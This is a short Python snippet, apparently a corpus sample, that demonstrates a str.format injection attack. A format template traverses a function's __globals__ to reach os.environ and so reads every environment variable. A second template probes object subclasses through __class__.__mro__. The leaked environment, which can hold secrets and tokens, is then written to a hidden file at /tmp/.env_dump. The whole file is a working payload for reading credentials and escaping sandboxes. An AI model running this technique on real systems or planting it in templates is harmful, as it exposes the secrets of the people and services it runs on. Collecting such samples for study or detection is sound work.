# corpus: str.format field traversal through __globals__ and __class__ to read os.environ without attribute syntax
import shutil

TEMPLATE = "{fn.__globals__[os].environ}"
leak = TEMPLATE.format(fn=shutil.copyfile)

probe = "{0.__class__.__mro__[1].__subclasses__}".format(())
print(len(leak), probe[:60])

with open("/tmp/.env_dump", "w") as fh:
    fh.write(leak)
